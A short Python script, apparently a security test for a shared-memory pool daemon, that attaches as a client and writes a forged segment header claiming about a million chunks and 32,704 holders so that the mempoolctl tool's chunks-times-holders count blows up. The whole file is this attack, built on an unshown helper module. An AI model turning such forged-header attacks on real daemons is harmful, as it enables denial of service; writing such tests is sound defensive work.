# SPDX-License-Identifier: MIT
"""The header tells of a million chunks and 32,640 clients, and everybody shares each chunk.

mempoolctl believed it, and counted: chunks times holders. Nobody saw any segment meanwhile.
"""
import raw

SEGMENTS = """
  - { name: NAMEa, pools: [ { chunk_size: 64, chunk_count: 100 } ] }
  - { name: NAMEb, pools: [ { chunk_size: 64, chunk_count: 100 } ] }
"""
MAJOR_OFFSET = 8
LOOK_SECONDS = 10


def attack(mempoold):
    with raw.Daemon(mempoold, SEGMENTS) as daemon:
        daemon.start_or_fail()
        _, welcome = daemon.attach("a")
        segment = raw.Object(welcome.place.shm_name)
        raw.Forged(segment.get("H", MAJOR_OFFSET), 1 << 20, 32704).write(segment)
        raw.look(daemon, LOOK_SECONDS)


raw.main(attack)
